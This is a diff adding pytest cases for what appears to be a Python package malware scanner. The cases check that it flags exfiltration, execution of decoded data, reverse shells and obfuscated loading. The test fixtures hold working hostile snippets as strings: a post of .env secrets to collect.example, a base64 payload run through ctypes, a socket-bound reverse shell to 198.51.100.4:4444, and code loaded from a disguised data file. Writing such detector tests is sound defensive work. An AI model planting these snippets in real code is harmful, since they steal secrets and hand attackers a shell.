@@ -443,3 +443,37 @@ def test_environment_names_that_are_not_secrets_send_nothing_secret(tmp_path):
             "urllib.request.urlopen('https://ci.example/c', data=json.dumps(data).encode())\n")
     result = scan(tmp_path, init(code), wheel=True)
     assert "exfiltration" not in rules_at(result, C, H)
+
+
+def test_env_file_values_sent_at_import_fail(tmp_path):
+    code = ("import requests\nfrom dotenv import dotenv_values\n"
+            "requests.post('https://collect.example/e', json=dotenv_values('.env'))\n")
+    check(tmp_path, init(code), Verdict.FAIL, "exfiltration", (C,))
+
+
+# -- more side doors -----------------------------------------------------------------------------------
+
+def test_the_c_apis_exec_through_ctypes_is_exec(tmp_path):
+    code = (f"import base64, ctypes\nctypes.pythonapi.PyRun_SimpleString("
+            f"base64.b64decode({PACKED!r}))\n")
+    check(tmp_path, init(code), Verdict.FAIL, "exec-decoded-data", (C,))
+
+
+def test_a_repl_wired_to_a_socket_is_a_reverse_shell(tmp_path):
+    code = ("import code, os, socket\ns = socket.socket()\ns.connect(('198.51.100.4', 4444))\n"
+            "for fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\ncode.interact(local={})\n")
+    check(tmp_path, init(code), Verdict.FAIL, "reverse-shell", (C,))
+
+
+def test_python_loaded_from_a_data_file_at_import_warns(tmp_path):
+    code = ("import importlib.machinery, os\n"
+            "p = os.path.join(os.path.dirname(__file__), 'assets', 'logo.dat')\n"
+            "importlib.machinery.SourceFileLoader('demo_logo', p).load_module()\n")
+    check(tmp_path, {**init(code), "demo/assets/logo.dat": "print('hi')\n"}, Verdict.WARN,
+          "obfuscated-code", (M,))
+
+
+def test_env_file_templates_are_not_credential_stores(tmp_path):
+    code = "import shutil\nTEMPLATE = open('.env.example').read()\nshutil.copy('.env.sample', 'x')\n"
+    result = scan(tmp_path, init(code), wheel=True)
+    assert "credential-access" not in {f.rule for f in result.findings}
